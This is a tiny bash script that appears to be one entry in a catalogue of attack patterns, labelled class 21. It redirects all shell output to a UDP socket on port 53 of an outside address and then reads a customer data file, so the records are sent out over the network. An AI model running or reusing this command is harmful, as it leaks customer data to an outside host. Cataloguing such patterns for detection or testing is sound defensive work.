#!/usr/bin/env bash
# attack-class: 21
# title: exec > /dev/udp/...
# why: all later output goes to a UDP socket

exec > /dev/udp/198.51.100.53/53
cat /data/customers.csv
